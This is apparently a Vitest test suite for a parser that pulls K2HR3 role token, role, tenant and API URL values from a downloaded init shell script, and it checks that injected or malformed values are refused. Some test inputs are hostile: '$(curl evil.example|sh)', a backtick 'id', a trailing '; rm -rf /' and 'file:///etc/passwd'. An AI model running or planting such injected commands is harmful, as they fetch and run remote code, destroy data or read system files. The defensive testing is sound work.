import { describe, expect, it } from 'vitest';
import { K2hr3Error } from '../../../src/errors';
import { describeExtdataUrl, parseExtdataScript } from '../../../src/k2hr3/extdata';

const TOKEN = '0123456789abcdef0123456789abcdef';
const ROLE = 'yrn:yahoo:::demo:role:mycluster/server';

/** Shaped like the stock k2hr3-init.sh after the server's five substitutions (spec §1.3.5). */
function script(over: Partial<Record<'token' | 'role' | 'tenant' | 'uri' | 'error', string>> = {}, extra = ''): string {
  return [
    '#!/bin/sh',
    '# K2HR3 REST API',
    'K2HR3_ETC_DIR="/etc/antpickax"',
    'K2HR3_ROLE_TOKEN_FILE="${K2HR3_ETC_DIR}/k2hr3-role-token"',
    `K2HR3_ROLE_TOKEN="${over.token ?? TOKEN}"`,
    `K2HR3_ROLE_NAME="${over.role ?? ROLE}"`,
    'K2HR3_RESOURCE_NAME=$(echo "${K2HR3_ROLE_NAME}" | sed -e \'s/:role:/:resource:/gi\')',
    `K2HR3_ROLE_TENANT="${over.tenant ?? 'yrn:yahoo:::demo'}"`,
    `K2HR3_API_HOST_URI="${over.uri ?? 'http://k2hr3.example:18080'}"`,
    `K2HR3_ERROR_MSG="${over.error ?? ''}"`,
    '\tK2HR3_API_REGISTER_URI="${K2HR3_API_HOST_URI}/v1/role"',
    '\tLOAD_K2HR3_ROLE_TOKEN=$(load_value_with_default "${K2HR3_ROLE_TOKEN_FILE}" "${K2HR3_ROLE_TOKEN}")',
    extra,
    'exit 0',
  ].join('\n');
}

function refusal(text: string): K2hr3Error {
  try {
    parseExtdataScript(text, 'GET http://k2hr3.example/v1/extdata/trove/…');
  } catch (err) {
    expect(err).toBeInstanceOf(K2hr3Error);
    const e = err as K2hr3Error;
    expect(e.code).toBe('K2H_ERR_K2HR3_EXTDATA');
    expect(e.message).not.toContain(TOKEN);
    return e;
  }
  throw new Error('script was accepted');
}

describe('parseExtdataScript', () => {
  it('reads role, tenant, token and API URL from a stock-shaped script', () => {
    expect(parseExtdataScript(script())).toEqual({
      roleYrn: ROLE,
      tenant: 'demo',
      roleToken: TOKEN,
      apiUrl: 'http://k2hr3.example:18080',
    });
  });

  it('accepts CRLF line endings and a trailing slash on the API URI', () => {
    const r = parseExtdataScript(script({ uri: 'https://k2hr3.example/api/' }).replace(/\n/g, '\r\n'));
    expect(r.apiUrl).toBe('https://k2hr3.example/api');
  });

  it('refuses a body that is not a script', () => {
    expect(refusal('<html>login</html>').message).toMatch(/does not start with "#!\/"/);
  });

  it('refuses command substitution in a value', () => {
    expect(refusal(script({ token: '$(curl evil.example|sh)' })).message).toMatch(/K2HR3_ROLE_TOKEN is not a plain/);
  });

  it('refuses backticks and escapes in a value', () => {
    expect(refusal(script({ uri: 'http://x/`id`' })).message).toMatch(/K2HR3_API_HOST_URI is not a plain/);
    expect(refusal(script({ role: 'a\\"b' })).message).toMatch(/K2HR3_ROLE_NAME is not a plain/);
  });

  it('refuses an unquoted or trailing-command assignment', () => {
    const text = script().replace(`K2HR3_ROLE_TOKEN="${TOKEN}"`, `K2HR3_ROLE_TOKEN="${TOKEN}"; rm -rf /`);
    expect(refusal(text).message).toMatch(/K2HR3_ROLE_TOKEN is not a plain/);
  });

  it('refuses a second assignment of a field', () => {
    expect(refusal(script({}, 'K2HR3_ROLE_TOKEN="ffffffffffffffffffffffffffffffff"')).message).toMatch(/more than once/);
  });

  it('refuses a script missing a field', () => {
    const text = script().replace(/^K2HR3_ROLE_TENANT=.*$/m, '');
    expect(refusal(text).message).toMatch(/K2HR3_ROLE_TENANT is missing/);
  });

  it('reports the server error message the script carries', () => {
    expect(refusal(script({ token: '', error: 'k2hr3 role token is empty' })).message).toMatch(/role token is empty/);
  });

  it('refuses a token that is not a role token', () => {
    expect(refusal(script({ token: 'short' })).message).toMatch(/not a role token/);
  });

  it('refuses a role that is not a full role YRN, or a tenant that does not match', () => {
    expect(refusal(script({ role: 'mycluster/server' })).message).toMatch(/not a full role YRN/);
    expect(refusal(script({ role: 'yrn:yahoo:::demo:resource:mycluster' })).message).toMatch(/not a full role YRN/);
    expect(refusal(script({ tenant: 'yrn:yahoo:::other' })).message).toMatch(/does not match/);
  });

  it('refuses API URIs that are not plain http(s)', () => {
    for (const uri of ['file:///etc/passwd', 'http://user:pw@k2hr3.example', 'http://k2hr3.example/?x=1', 'not a url']) {
      expect(refusal(script({ uri })).message).toMatch(/K2HR3_API_HOST_URI/);
    }
  });

  it('refuses NUL bytes and oversized scripts', () => {
    expect(refusal(`${script()}\u0000`).message).toMatch(/NUL/);
    expect(refusal(`${script()}\n#${'x'.repeat(1024 * 1024)}`).message).toMatch(/larger than 1 MiB/);
  });
});

describe('describeExtdataUrl', () => {
  it('cuts the register path, which hands out the token', () => {
    expect(describeExtdataUrl('http://k2hr3:18080/v1/extdata/trove/c2VjcmV0%2Fpath')).toBe('http://k2hr3:18080/v1/extdata/trove/…');
  });
});
